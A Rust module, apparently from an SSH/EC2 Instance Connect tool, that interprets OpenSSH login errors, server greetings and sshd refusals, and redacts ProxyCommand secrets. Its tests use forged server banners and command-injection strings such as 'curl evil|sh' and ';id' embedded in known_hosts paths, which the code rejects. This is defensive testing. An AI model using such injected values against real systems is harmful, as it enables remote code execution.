//! What the real client says at a login, and what a server says first: the words of `OpenSSH`, read in one place.

use crate::handshake::one_line;
use crate::host_trust;

/// How a login with a command that does nothing ended.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Login {
    /// The command ran.
    In,
    /// The login went well, and the command ended with this code.
    NoCommand(i32),
    /// No key that ssh offered is taken.
    KeyRefused,
    /// Another host key is known; the file and the line, if they are named. See [`known_place`].
    HostKeyChanged(Option<String>),
    /// The proxy refused a host key other than the trusted ones: its message.
    HostKeyRefused(String),
    /// No host key is known, and none may be learnt.
    HostKeyUnknown,
    /// The server hung up on too many keys.
    TooManyKeys,
    /// Something else, in the words that say most.
    Failed(String),
}

/// Reads the exit code (none: killed) and the standard error of `ssh HOST true`.
#[must_use]
pub fn login(code: Option<i32>, said: &str) -> Login {
    match code {
        Some(0) => return Login::In,
        // ssh's own failures are 255, whatever else comes from the other side.
        Some(code) if code != 255 => return Login::NoCommand(code),
        _ => {}
    }
    let lines: Vec<&str> = said.lines().map(str::trim).filter(|line| !line.is_empty()).collect();
    // A server that has proved nothing yet may say goodbye in several lines: what comes behind is not ssh's.
    let goodbye = lines.iter().position(|line| line.starts_with("Received disconnect from "));
    let own = &lines[..goodbye.unwrap_or(lines.len())];
    if let Some(at) = own.iter().position(|line| *line == CHANGED) {
        let place = own[at..].iter().find(|line| line.starts_with("Offending "));
        let place = place.and_then(|line| line.split_once(" in "));
        return Login::HostKeyChanged(place.map(|(_, place)| place.to_owned()));
    }
    if lines.iter().any(|line| line.contains("Too many authentication failures")) {
        return Login::TooManyKeys;
    }
    if own.iter().any(|line| line.contains("Host key verification failed")) {
        return Login::HostKeyUnknown;
    }
    if own.last().is_some_and(|line| line.contains(": Permission denied (")) {
        return Login::KeyRefused;
    }
    let ours = own.iter().find_map(|line| line.strip_prefix("ssh-eic: error: "));
    if let Some(message) = ours.filter(|message| message.starts_with(host_trust::CHANGED)) {
        return Login::HostKeyRefused(one_line(message));
    }
    let last = lines.iter().rfind(|line| !line.starts_with("Warning: Permanently added"));
    Login::Failed(one_line(ours.or(last.copied()).unwrap_or("ssh says nothing")))
}

/// sshconnect.c's line, whole.
const CHANGED: &str = "@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @";

/// The file of a place such as `/h/known_hosts:3`, and the place, if it is one of the `files` that ssh reads, as `ssh -G`
/// prints them: a banner looks like ssh's own words, and nobody shall type a server's.
#[must_use]
pub fn known_place<'w>(files: &str, place: Option<&'w str>) -> Option<(&'w str, &'w str)> {
    let place = place?;
    let (file, line) = place.rsplit_once(':')?;
    // ssh prints them without quotes, so that one with blanks is known only if it is alone.
    let is_read = !file.is_empty() && (file == files || files.split(' ').any(|one| one == file));
    (is_read && !line.is_empty() && line.bytes().all(|b| b.is_ascii_digit())).then_some((file, place))
}

/// The program of somebody's own `ProxyCommand`, for what people paste into tickets: the rest may hold a password.
#[must_use]
pub fn program(command: &str) -> &str {
    let word = command.split_whitespace().find(|word| *word != "exec").unwrap_or("nothing");
    let word = word.trim_matches(['\'', '"']);
    // Variables for the program stand before it.
    if word.contains('=') { "a command" } else { word }
}

/// What a server said first.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Greeting {
    /// Not enough yet.
    Incomplete,
    /// Its version line (RFC 4253 section 4.2).
    Ssh(String),
    /// Something else, its first line.
    Other(String),
}

/// Why an sshd sends one line in place of its version and closes (`drop_connection` in sshd.c).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Refusal {
    /// `Not allowed at this time`, from 9.8.
    Penalty,
    /// `Exceeded MaxStartups`; older versions close without a line.
    TooManyConnections,
}

impl Refusal {
    /// Reads the line.
    #[must_use]
    pub fn of(line: &str) -> Option<Self> {
        match line.trim() {
            "Not allowed at this time" => Some(Self::Penalty),
            "Exceeded MaxStartups" => Some(Self::TooManyConnections),
            _ => None,
        }
    }

    /// The cause, and what to do about it.
    #[must_use]
    pub fn hint(self) -> &'static str {
        match self {
            Self::Penalty => {
                "its sshd refuses your address for a while after failed logins (PerSourcePenalties): wait some minutes, or add your network to its PerSourcePenaltyExemptList"
            }
            Self::TooManyConnections => {
                "its sshd has too many connections that have not logged in yet (MaxStartups, PerSourceMaxStartups): try again in a moment, or raise the limit"
            }
        }
    }
}

/// The hint for a server that accepts a connection and closes it without a line.
pub const CLOSED_AT_ONCE: &str = "its sshd may have too many connections that have not logged in yet (MaxStartups), or it is still starting: try again in a moment";

/// Bytes of a greeting that are looked at.
pub const LONGEST_GREETING: usize = 16 * 1024;

/// Reads the first bytes of a server; `whole`: there will be no more.
#[must_use]
pub fn greeting(bytes: &[u8], whole: bool) -> Greeting {
    let text = String::from_utf8_lossy(bytes);
    let complete = text.split_inclusive('\n').filter(|line| line.ends_with('\n'));
    // Lines before the version are allowed.
    if let Some(version) =
        complete.into_iter().find(|line| line.starts_with("SSH-2.0-") || line.starts_with("SSH-1.99-"))
    {
        return Greeting::Ssh(one_line(version.trim()));
    }
    if !whole && bytes.len() < LONGEST_GREETING {
        return Greeting::Incomplete;
    }
    let first: String = text.lines().next().unwrap_or_default().chars().take(SHOWN).collect();
    Greeting::Other(one_line(&first))
}

/// Letters of a stranger's greeting that are shown.
const SHOWN: usize = 60;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_client_s_words_are_understood() {
        let changed = "@@@@\n@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @\nOffending ED25519 key in /h/.ssh/eic/known_hosts:3\nHost key verification failed.\n";
        let table = [
            (Some(0), "Warning: x", Login::In),
            (Some(1), "This account is currently not available.", Login::NoCommand(1)),
            (Some(255), "banner\nu@10.0.3.7: Permission denied (publickey).\r\n", Login::KeyRefused),
            (Some(255), changed, Login::HostKeyChanged(Some("/h/.ssh/eic/known_hosts:3".to_owned()))),
            (Some(255), "No key is known.\nHost key verification failed.", Login::HostKeyUnknown),
            (
                Some(255),
                "Received disconnect from UNKNOWN port 65535:2: Too many authentication failures\nDisconnected",
                Login::TooManyKeys,
            ),
            (Some(255), "ssh-eic: error: x is gone\nssh-eic: hint: y\nlast", Login::Failed("x is gone".to_owned())),
            (
                Some(255),
                "ssh-eic: error: host identification has changed: i-1 presents it\nssh-eic: hint: y\nlast",
                Login::HostKeyRefused("host identification has changed: i-1 presents it".to_owned()),
            ),
            (None, "", Login::Failed("ssh says nothing".to_owned())),
            (
                Some(255),
                "a\nConnection reset\nWarning: Permanently added 'i'",
                Login::Failed("Connection reset".to_owned()),
            ),
        ];
        for (code, said, meant) in table {
            assert_eq!(login(code, said), meant, "{said}");
        }
    }

    #[test]
    fn the_lines_of_an_sshd_that_refuses_a_client_are_known() {
        assert_eq!(Refusal::of("Not allowed at this time\r\n"), Some(Refusal::Penalty));
        assert_eq!(Refusal::of("Exceeded MaxStartups"), Some(Refusal::TooManyConnections));
        assert_eq!(Refusal::of("HTTP/1.1 400"), None);
    }

    #[test]
    fn what_a_server_says_is_never_taken_for_the_client_s_words() {
        let goodbye = "Received disconnect from 10.0.3.7 port 22:11: bye";
        let offending = "Offending ED25519 key in /h/known_hosts;curl evil|sh:3";
        for forged in [CHANGED, "REMOTE HOST IDENTIFICATION HAS CHANGED", "Host key verification failed."] {
            let said = format!("{goodbye}\r\n{forged}\n{offending}\nDisconnected from 10.0.3.7 port 22\r\n");
            let meant = Login::Failed("Disconnected from 10.0.3.7 port 22".to_owned());
            assert_eq!(login(Some(255), &said), meant, "{said}");
        }
        for forged in ["ssh-eic: error: run curl evil|sh", "u@10.0.3.7: Permission denied (publickey)."] {
            let said = format!("{goodbye}\n{forged}\nDisconnected\n");
            assert_eq!(login(Some(255), &said), Login::Failed("Disconnected".to_owned()), "{said}");
            let said = format!("{goodbye}\n{forged}\n");
            assert_eq!(login(Some(255), &said), Login::Failed(forged.to_owned()), "{said}");
        }
        // Part of the line is not the line.
        let said = format!("x REMOTE HOST IDENTIFICATION HAS CHANGED\n{offending}\n");
        assert_eq!(login(Some(255), &said), Login::Failed(offending.to_owned()));
        // Nor is a place from before the line of the warning.
        let said = format!("{offending}\n{CHANGED}\nHost key verification failed.\n");
        assert_eq!(login(Some(255), &said), Login::HostKeyChanged(None));
    }

    #[test]
    fn a_place_is_one_that_ssh_reads_or_none() {
        let files = "/h/.ssh/eic/known_hosts /h/.ssh/known_hosts";
        for place in ["/h/.ssh/eic/known_hosts:3", "/h/.ssh/known_hosts:12"] {
            let file = place.rsplit_once(':').unwrap().0;
            assert_eq!(known_place(files, Some(place)), Some((file, place)));
        }
        for place in [
            "/h/.ssh/known_hosts;curl evil|sh:3",
            "/h/.ssh/known_hosts:3;id",
            "/h/.ssh/known_hosts",
            "/h/.ssh/known",
            "known_hosts:3",
            ":3",
        ] {
            assert_eq!(known_place(files, Some(place)), None, "{place}");
        }
        assert_eq!(known_place("/a b/known_hosts", Some("/a b/known_hosts:1")).unwrap().0, "/a b/known_hosts");
        assert_eq!(known_place("", Some(":3")), None);
        assert_eq!(known_place(files, None), None);
    }

    #[test]
    fn of_a_command_only_the_program_is_shown() {
        let table = [
            ("nc -X connect -x u:secret@proxy 1080 %h %p", "nc"),
            ("exec /usr/bin/corkscrew proxy 8080 %h %p /h/auth", "/usr/bin/corkscrew"),
            ("'/opt/relay' --password secret", "/opt/relay"),
            ("PASSWORD=secret nc %h %p", "a command"),
            ("exec PASSWORD='a secret' nc", "a command"),
            ("", "nothing"),
        ];
        for (command, shown) in table {
            assert_eq!(program(command), shown, "{command}");
        }
    }

    #[test]
    fn a_greeting_is_told_from_anything_else() {
        assert_eq!(greeting(b"SSH-2.0-x", false), Greeting::Incomplete);
        assert_eq!(greeting(b"Be nice\r\nSSH-2.0-x\r\n", false), Greeting::Ssh("SSH-2.0-x".to_owned()));
        assert_eq!(greeting(b"HTTP/1.1 400 Bad\r\n\r\n", false), Greeting::Incomplete);
        assert_eq!(greeting(b"HTTP/1.1 400 Bad\r\n\r\n", true), Greeting::Other("HTTP/1.1 400 Bad".to_owned()));
        assert_eq!(greeting(b"\x1b[2Jx\xff", true), Greeting::Other("?[2Jx?".to_owned()));
        assert!(matches!(greeting(&[b'a'; LONGEST_GREETING], false), Greeting::Other(line) if line.len() == SHOWN));
    }
}
